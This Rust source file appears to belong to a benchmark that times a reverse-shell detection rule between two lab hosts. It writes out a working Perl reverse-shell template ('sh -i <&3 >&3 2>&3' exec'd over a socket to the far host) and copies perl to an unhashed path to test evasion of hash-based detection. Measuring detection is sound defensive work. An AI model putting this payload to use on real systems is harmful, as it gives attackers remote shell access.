//! The cause of alerts: a shell on a host that is attacked, from which reverse shells are tried.

use std::fs;
use std::io::{BufRead as _, BufReader, Write as _};
use std::process::{Child, ChildStdin, ChildStdout, Command, Stdio};
use std::time::Duration;

use anyhow::{Context, Result, bail, ensure};
use lapwing_stage::Hosts;
use tempfile::TempDir;

use super::now;

/// How long after its start the shell must connect for the rule to see both as one: its `maxspan`.
const SPAN_MAX: Duration = Duration::from_secs(1);
/// How often a shell is tried that does not connect in that time.
const TRIES_MAX: usize = 10;

/// A kind of connection whose alert is timed.
pub(in crate::bench) struct Case {
    /// Its name in the table.
    pub(in crate::bench) name: &'static str,
    /// Its name in JSON.
    pub(super) key: &'static str,
    /// The port, and what perl does with the socket `S` and the address `$to`. The rule wants a shell among the arguments.
    port: u16,
    connect: &'static str,
    /// Whether each program is a new file, which was never hashed.
    is_new: bool,
}

/// Nothing listens on this port.
const REFUSED_PORT: u16 = 4444;
/// A server accepts connections on this port, and closes them.
const ANSWERED_PORT: u16 = 4445;

/// A host refuses the connection.
pub(in crate::bench) const REFUSED: Case = Case {
    name: "refused",
    key: "refused",
    port: REFUSED_PORT,
    connect: "connect(S, $to) and exec(\"sh -i <&3 >&3 2>&3\");",
    is_new: false,
};
/// Every case.
pub(super) const CASES: [Case; 4] = [
    Case {
        name: "answered",
        key: "answered",
        port: ANSWERED_PORT,
        connect: "connect(S, $to) or exec(\"sh -i <&3 >&3 2>&3\");",
        ..REFUSED
    },
    REFUSED,
    Case {
        name: "closed at once",
        key: "closed",
        connect: "fcntl(S, 4, 2048); connect(S, $to) and exec(\"sh -i <&3 >&3 2>&3\"); close(S);",
        ..REFUSED
    },
    Case { name: "refused, program never hashed", key: "never_hashed", is_new: true, ..REFUSED },
];

/// Connects a socket, and prints its own pid and the time.
const REVERSE_SHELL: &str = "PERL -MSocket -MTime::HiRes=clock_gettime,CLOCK_MONOTONIC -e '\
    socket(S, PF_INET, SOCK_STREAM, 6); $to = sockaddr_in(PORT, inet_aton(\"ADDRESS\")); \
    $at = clock_gettime(CLOCK_MONOTONIC); CONNECT printf \"%d %.6f\\n\", $$, $at' || echo nothing";

/// Accepts connections and closes them.
const SERVER: &str = "use Socket; socket(L, PF_INET, SOCK_STREAM, 6); setsockopt(L, SOL_SOCKET, SO_REUSEADDR, 1); \
    bind(L, sockaddr_in(PORT, INADDR_ANY)) or die; listen(L, 64); $| = 1; print \"ready\\n\"; \
    while (accept(C, L)) { close(C) }";

/// A shell on the host that is attacked, which runs the commands on its standard input.
pub(in crate::bench) struct Attacker {
    shell: Child,
    stdin: ChildStdin,
    stdout: BufReader<ChildStdout>,
    address: &'static str,
    /// Holds the copy of perl.
    folder: TempDir,
}

/// A server on the far host that answers.
pub(super) struct Server(Child);

impl Server {
    /// Starts it, and waits until it listens.
    pub(super) fn start(hosts: &Hosts) -> Result<Self> {
        let mut command = hosts.far.command("perl");
        command.args(["-e", &SERVER.replace("PORT", &ANSWERED_PORT.to_string())]).stdout(Stdio::piped());
        let mut server = Self(command.spawn().context("perl")?);
        let mut line = String::new();
        let stdout = server.0.stdout.take().context("the server has no pipe")?;
        BufReader::new(stdout).read_line(&mut line)?;
        ensure!(line == "ready\n", "the server does not listen; install perl");
        Ok(server)
    }
}

impl Drop for Server {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

impl Attacker {
    pub(super) fn new(hosts: &Hosts) -> Result<Self> {
        Self::by(hosts.near.command("bash"), hosts)
    }

    /// One whose programs run before all others: where a thousand others want to run, a shell would else take longer to
    /// connect than the rule looks back.
    pub(in crate::bench) fn first(hosts: &Hosts) -> Result<Self> {
        let mut nice = hosts.near.command("nice");
        nice.args(["-n", "-20", "bash"]);
        Self::by(nice, hosts)
    }

    fn by(mut shell: Command, hosts: &Hosts) -> Result<Self> {
        let mut shell = shell.stdin(Stdio::piped()).stdout(Stdio::piped()).spawn().context("bash")?;
        let (stdin, stdout) = (shell.stdin.take(), shell.stdout.take());
        let folder = tempfile::tempdir().context("no temporary folder")?;
        let (stdin, stdout) = stdin.zip(stdout).context("bash has no pipes")?;
        let (stdout, address) = (BufReader::new(stdout), hosts.far.address());
        Ok(Self { shell, stdin, stdout, address, folder })
    }

    /// Tries a reverse shell and returns its process and when it called `connect`, in seconds of the monotonic clock.
    /// One whose start alone took longer than the rule looks back is no cause of an alert, and is tried again.
    pub(in crate::bench) fn attack(&mut self, case: &Case) -> Result<(u64, f64)> {
        for _ in 0..TRIES_MAX {
            let program = self.program(case)?;
            let start = now();
            let (pid, connected) = self.try_once(case, &program)?;
            if connected - start < SPAN_MAX.as_secs_f64() {
                return Ok((pid, connected));
            }
        }
        bail!("perl takes more than {} ms to start; the machine is too busy", SPAN_MAX.as_millis());
    }

    /// The path of perl, or of a copy that was never hashed.
    fn program(&self, case: &Case) -> Result<String> {
        if !case.is_new {
            return Ok("perl".to_owned());
        }
        let path = self.folder.path().join("perl");
        // The copy of the attack before may still be read: another file takes its name.
        let new = path.with_extension("new");
        fs::copy("/usr/bin/perl", &new).context("/usr/bin/perl")?;
        fs::rename(&new, &path).context("a copy of perl")?;
        Ok(path.display().to_string())
    }

    fn try_once(&mut self, case: &Case, program: &str) -> Result<(u64, f64)> {
        let command = REVERSE_SHELL.replace("PERL", program).replace("PORT", &case.port.to_string());
        let command = command.replace("ADDRESS", self.address).replace("CONNECT", case.connect);
        writeln!(self.stdin, "{command}").context("bash has gone")?;
        let mut said = String::new();
        self.stdout.read_line(&mut said)?;
        let words = said.trim_end().split_once(' ');
        let read = words.and_then(|(pid, time)| Some((pid.parse().ok()?, time.parse().ok()?)));
        read.with_context(|| format!("perl said `{}`; install perl", said.trim_end()))
    }
}

impl Drop for Attacker {
    fn drop(&mut self) {
        let _ = self.shell.kill();
        let _ = self.shell.wait();
    }
}
